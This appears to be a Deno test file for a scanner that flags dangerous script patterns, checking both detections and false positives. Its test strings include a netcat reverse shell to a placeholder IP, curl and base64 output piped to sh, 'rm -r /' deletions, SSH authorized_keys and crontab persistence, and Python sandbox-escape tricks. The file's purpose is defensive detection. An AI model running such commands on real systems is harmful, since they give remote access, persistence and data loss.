import * as assert from "node:assert/strict";
import { scriptDangers } from "../../../../core/scanner/knowledge/script_dangers.ts";

Deno.test("C 16 finds what scripts rarely do, and where", async (t) => {
  const rows: readonly (readonly [text: string, ruleCode: string])[] = [
    ["exec(base64.b64decode(x))", "S601"],
    ["eval(zlib.decompress(x))", "S601"],
    ["echo x | base64 -d | sh", "S601"],
    ["os.dup2(s.fileno(), 0)", "S301"],
    ["nc 203.0.113.7 4444 -e /bin/sh", "S301"],
    ["os.system('id')", "S101"],
    ["posix.popen('id')", "S101"],
    ["pty.spawn('sh')", "S101"],
    ["subprocess.getoutput('id')", "S101"],
    ["require('child_process')", "S101"],
    ["curl http://a | sh", "S302"],
    ["subprocess.run(['id'])", "S101"],
    ["from subprocess import check_output as f", "S101"],
    ["from os import path, system", "S101"],
    ["os.execvp('id', ['id'])", "S101"],
    ["import os as o\no.system('id')", "S101"],
    ["import os as a\nimport posix as _b\n_b.popen ('id')", "S101"],
    ["import subprocess as s\ns.run(['id'])", "S101"],
    ["importlib.import_module('os').system('id')", "S101"],
    ['import_module( "subprocess")', "S101"],
    ["exec(open('x.txt').read())", "S104"],
    ["y = eval (text)", "S104"],
    ["__import__('o' + 's')", "S106"],
    ["ctypes.CDLL('./x.so')", "S110"],
    ["f = os.system\nf('id')", "S101"],
    ["marshal.loads(x)", "S104"],
    ["globals()['__builtins__']['exec']('1')", "S104"],
    ["builtins.__dict__['ev' + 'al']('1')", "S104"],
    ["sys.modules['os'].system('id')", "S104"],
    ["().__class__.__base__.__subclasses__()", "S104"],
    ["''.__class__.__mro__", "S104"],
    ["from importlib import import_module as i\ni('os')", "S106"],
    ["\uff45\uff58\uff45c('1')", "S104"],
    ["rm -rf ~/models", "S504"],
    ['rm -fr "$HOME"', "S504"],
    ["rm -r /", "S504"],
    ["echo key >> ~/.ssh/authorized_keys", "S504"],
    ["(crontab -l; echo job) | crontab -", "S504"],
  ];
  for (const [text, ruleCode] of rows) {
    await t.step(text, () => {
      const found = [...scriptDangers(text)].map((danger) => [danger.ruleCode, danger.position]);
      assert.deepEqual(found.map(([code]) => code), [ruleCode]);
      const [after] = scriptDangers(`# comment\n${text}`);
      assert.ok(ruleCode === "S302" || (after?.position ?? 0) >= 10);
    });
  }
});

Deno.test("C 16 finds scripts whose encoding hides what they do", () => {
  for (const line of ["# -*- coding: utf-7 -*-", "#!/usr/bin/python\n# coding=unicode_escape"]) {
    const [danger] = scriptDangers(`${line}\n+AGkAbQ\n`);
    assert.equal(danger?.ruleCode, "S601", line);
  }
  assert.deepEqual([...scriptDangers("# -*- coding: utf-8 -*-\nimport os\n")], []);
});

Deno.test("C 16 finds nothing in ordinary scripts", () => {
  const text = "import os, requests\nmodel.eval()\nast.literal_eval(x)\nre.compile(x)\n" +
    "pl.exec(x)\nrm -rf build\nrm -rf /tmp/x\ncrontab -l\nexecute(x)\n" +
    "requests.get(url)\nos.path.join(a, b)\ndata = base64.b64decode(x)\nasyncio.run(main())\n" +
    "import os as _os\n_os.getcwd()\nplatform.system()\nimport_module('json')\n" +
    "from importlib import import_module\nsys.modules['json']\nself.__class__.__name__\n" +
    "sys.modules['os']\n\uff21\uff29 = 1\nself.builtins\nf = os.systems\n";
  assert.deepEqual([...scriptDangers(text)], []);
});

Deno.test("takes linear time in any script", () => {
  for (
    const piece of [
      "exec (",
      "eval(base64",
      "os.",
      "nc a ",
      "base64 -d",
      "curl |",
      "a.b.",
      "rm -r ",
      "from os import ",
      "import os as a\n",
      "import_module(",
      "> ~/.",
      "= os.system ",
      "sys.modules [",
      "().",
      "# coding: ",
      "\uff45",
    ]
  ) {
    const text = piece.repeat(Math.floor(1_000_000 / piece.length));
    assert.ok([...scriptDangers(text)].length <= 1, piece);
  }
});
